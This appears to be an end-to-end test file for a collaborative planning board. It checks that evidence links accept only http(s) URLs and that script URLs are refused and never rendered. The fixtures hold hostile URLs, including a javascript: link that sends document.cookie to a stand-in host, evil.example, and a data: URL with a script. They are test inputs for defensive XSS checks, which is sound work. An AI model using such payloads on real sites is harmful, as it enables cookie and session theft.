import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { DEMO_PASSWORD, startAppServer, type AppServer } from '../support/app-server.js';
import { launchBrowser } from '../support/browser.js';
import { connect } from '../support/harness.js';
import { storedDoc } from '../support/stored.js';
import { PLAN, openBoard, openCard } from './board-helpers.js';
import { openTestStore } from '../support/test-database.js';

const BDBP = 'bch-bdbp';
const DOCUMENT = `plan/${PLAN}/agency/${BDBP}`;
const SCRIPT = 'javascript:fetch("//evil.example/?c="+document.cookie)';
const ARTICLE = 'https://baogialai.com.vn/bai-viet-bien-gioi';

let app: AppServer;
let browser: Browser;
let closeBrowser: () => Promise<void> = async () => {};
let taskId: string;

const evidenceOf = (doc: Y.Doc) =>
	(doc.getMap('cards').get(taskId) as Y.Map<unknown>).get('evidence') as Y.Array<unknown>;

beforeAll(async () => {
	app = await startAppServer();
	({ browser, close: closeBrowser } = await launchBrowser());
	// Links stored by a client that skipped checkEvidenceUrl, as a server without the schema
	// check would have kept them: one script URL, one real article.
	const store = openTestStore({ path: join(app.dataDir, 'planboard.db') });
	const doc = storedDoc(store, DOCUMENT);
	const before = Y.encodeStateVector(doc);
	taskId = [...doc.getMap('cards').keys()].sort()[0];
	evidenceOf(doc).push([
		{ id: 'script', url: SCRIPT, label: 'Bấm vào đây' },
		{ id: 'data', url: 'data:text/html,<script>alert(1)</script>', label: 'Tệp' },
		{ id: 'article', url: ARTICLE, label: 'Bài báo' }
	]);
	store.updates.append({
		document: DOCUMENT,
		update: Y.encodeStateAsUpdate(doc, before),
		userId: null
	});
	store.close();
});

afterAll(async () => {
	await closeBrowser();
	await app?.stop();
});

describe('evidence links: only http(s), on write, read and render', () => {
	it('refuses a javascript: link written straight into the document by a provider', async () => {
		const login = await fetch(`${app.baseUrl}/api/login`, {
			method: 'POST',
			headers: { 'content-type': 'application/json' },
			body: JSON.stringify({ username: 'bdbp', password: DEMO_PASSWORD })
		});
		const { token } = (await login.json()) as { token: string };
		const officer = connect({
			url: app.baseUrl.replace('http', 'ws') + '/collab',
			document: DOCUMENT,
			token
		});
		await officer.ready;
		const closed = new Promise<number>((resolve) =>
			officer.socket.on('close', ({ event }: { event: { code: number } }) => resolve(event.code))
		);
		evidenceOf(officer.doc).push([{ id: 'js2', url: 'javascript:alert(1)', label: 'x' }]);
		expect(await closed).toBe(4422);
		officer.destroy();
	});

	it('renders the https link as an anchor and no script URL as one, in Chromium', async () => {
		const { page } = await openBoard({
			browser,
			baseUrl: app.baseUrl,
			username: 'sotttt',
			query: '?scope=all'
		});
		const detail = await openCard(page, BDBP, taskId);
		const links = detail.getByTestId('evidence');
		await expect.poll(() => links.locator('a').count()).toBe(1);
		expect(await links.locator('a').getAttribute('href')).toBe(ARTICLE);
		expect(await page.locator('a[href^="javascript:" i], a[href^="data:" i]').count()).toBe(0);
		expect(await page.content()).not.toContain('javascript:fetch');
		expect(await links.locator('li').count()).toBe(1);
		await page.context().close();
	});
});
